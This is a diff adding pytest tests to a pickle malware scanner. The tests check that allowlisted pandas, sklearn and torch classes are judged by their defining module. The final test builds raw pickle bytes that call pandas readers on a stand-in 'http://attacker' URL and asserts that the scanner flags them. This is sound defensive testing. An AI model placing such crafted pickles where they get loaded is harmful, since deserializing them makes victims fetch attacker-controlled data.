@@ -34,3 +34,59 @@ def test_joblib_old_zfile_format_is_decompressed(tmp_path, space):
     p = tmp_path / "model.pkl"
     p.write_bytes(b"ZF" + f"{len(PAYLOAD):#x}".encode().ljust(19) + space + zlib.compress(PAYLOAD))
     assert is_malicious(scan(p))
+
+
+def _defining_module(cls) -> str | None:
+    """Where a class's code really lives. ``__module__`` can say otherwise: pandas 3 sets it to the
+    public path (``pandas.api.typing.JsonReader`` is ``pandas.io.json._json.JsonReader``), so the
+    file of one of its functions decides."""
+    import os
+    import sys
+
+    for value in vars(cls).values():
+        value = getattr(value, "__func__", value)
+        code = getattr(getattr(value, "fget", value), "__code__", None)
+        if code is None:
+            continue
+        path = os.path.realpath(code.co_filename)
+        for entry in sorted((os.path.realpath(p) for p in sys.path if p), key=len, reverse=True):
+            if path.startswith(entry + os.sep):
+                parts = os.path.relpath(path, entry).removesuffix(".py").split(os.sep)
+                return ".".join(parts[:-1] if parts[-1] == "__init__" else parts)
+        return None
+    return None
+
+
+@pytest.mark.parametrize("library", ["pandas", "sklearn", "torch"])
+def test_prefix_rules_judge_a_class_where_its_code_lives(library):
+    """A prefix admits a class by the name it is imported under; what it does is decided where
+    its code lives. pandas.api.typing:JsonReader/StataReader/SASReader (readers that open the path
+    or URL they are given) passed as classes 'of' pandas.api.typing."""
+    import inspect
+
+    pytest.importorskip(library)
+    from test_allowlist_data import _HARMLESS_CLASSES, _prefix_members
+
+    from gapsync.policies import pickle_globals as pg
+
+    pol = pg.load_pickle_policy()
+    problems = []
+    for prefix in [p for p in pol.allow_classes if p.split(".")[0] == library]:
+        for module, name, obj in _prefix_members(prefix):
+            if not inspect.isclass(obj) or pol.classify(module, name).action is not pg.GlobalAction.ALLOW:
+                continue
+            home = _defining_module(obj)
+            if f"{home}.{obj.__qualname__}" in _HARMLESS_CLASSES:
+                continue
+            if home is not None and home != module and pol.classify(home, obj.__qualname__).action is pg.GlobalAction.DENY:
+                problems.append(f"{module}:{name} is {home}.{obj.__qualname__}, denied there")
+    assert problems == []
+
+
+@pytest.mark.parametrize("name", ["JsonReader", "StataReader", "SASReader"])
+def test_pandas_readers_under_their_public_name_are_not_allowed(tmp_path, name):
+    """pickle.dumps writes pandas 3's readers as pandas.api.typing:<Reader>; loading one reads a URL."""
+    p = tmp_path / "frame.pkl"
+    p.write_bytes(b"\x80\x04\x8c\x11pandas.api.typing\x94\x8c" + bytes([len(name)]) + name.encode()
+                  + b"\x94\x93\x8c\x16http://attacker/x.json\x94\x85\x94R\x94.")
+    assert is_malicious(scan(p))
